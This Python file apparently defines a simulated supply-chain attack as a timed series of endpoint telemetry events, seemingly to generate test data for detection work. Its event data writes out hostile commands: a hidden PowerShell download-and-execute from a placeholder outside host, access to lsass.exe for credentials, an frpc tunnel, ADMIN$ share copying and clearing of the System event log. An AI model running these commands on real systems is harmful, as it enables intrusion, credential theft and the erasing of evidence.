"""A supplier's update that brings more than an update: the updater itself starts what follows."""

from typing import Any, Final

from pipeline.simulate.stories.step import Step, Story

_SYSTEM32: Final = "C:\\Windows\\System32\\"
_POWERSHELL: Final = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_UPDATER: Final = "D:\\Kingdee\\K3Cloud\\Update\\AutoUpdate.exe"
_IMPLANT: Final = "C:\\Users\\Public\\Libraries\\<tag>.exe"
_TUNNEL: Final = "C:\\ProgramData\\<tag>\\frpc.exe"


def _on_server(fields: dict[str, Any]) -> dict[str, Any]:
    return {**fields, "Hostname": "<app>.<domain>", "User": "NT AUTHORITY\\SYSTEM"}


def _run(image: str, command_line: str, parent: str) -> dict[str, Any]:
    return _on_server({"Image": image, "CommandLine": command_line, "ParentImage": parent})


_UPDATE = (
    Step(0, "process", _run(_UPDATER, "AutoUpdate.exe /silent", _SYSTEM32 + "services.exe")),
    Step(8, "lookup", _on_server({"Image": _UPDATER, "QueryName": "update-<tag>.example"})),
    Step(9, "connection", _on_server({
        "Image": _UPDATER, "SourceIp": "<app_ip>", "DestinationIp": "<outside_2>",
        "DestinationPort": "443",
    })),
    Step(40, "file", _on_server({"Image": _UPDATER, "TargetFilename": _IMPLANT})),
)  # fmt: skip

_IMPLANTED = (
    Step(60, "process", _run(
        _POWERSHELL,
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
        ".DownloadString('https://<outside_2>/<tag>')\"",
        _UPDATER,
    )),
    Step(75, "process", _run(
        _SYSTEM32 + "cmd.exe", "cmd.exe /c whoami /all & ipconfig /all & tasklist", _UPDATER,
    )),
    Step(90, "process", _run(_IMPLANT, _IMPLANT, _UPDATER)),
    Step(120, "service", {
        "Hostname": "<app>.<domain>", "ServiceName": "<tag>",
        "ImagePath": "C:\\Windows\\<tag>.exe",
    }),
)  # fmt: skip

_FURTHER = (
    Step(300, "access", _on_server({
        "SourceImage": _IMPLANT, "TargetImage": _SYSTEM32 + "lsass.exe",
        "GrantedAccess": "0x1fffff",
        "CallTrace": _SYSTEM32 + "ntdll.dll+9c534|UNKNOWN(000001D2A7B60000)",
    })),
    Step(420, "process", _run(
        _TUNNEL, _TUNNEL + " -c C:\\ProgramData\\<tag>\\frpc.ini", _IMPLANT,
    )),
    Step(425, "connection", _on_server({
        "Image": _TUNNEL, "SourceIp": "<app_ip>", "DestinationIp": "<outside_2>",
        "DestinationPort": "7000",
    })),
    Step(600, "share", {
        "Hostname": "<fs>.<domain>", "ShareName": "\\\\*\\ADMIN$",
        "RelativeTargetName": "<tag>.exe", "AccessMask": "0x2",
    }),
    Step(640, "process", _run(_SYSTEM32 + "wevtutil.exe", "wevtutil.exe cl System", _IMPLANT)),
)  # fmt: skip

SUPPLY_CHAIN_UPDATE: Final = Story(
    "supply_chain_update", ("office", "plant"), _UPDATE + _IMPLANTED + _FURTHER
)
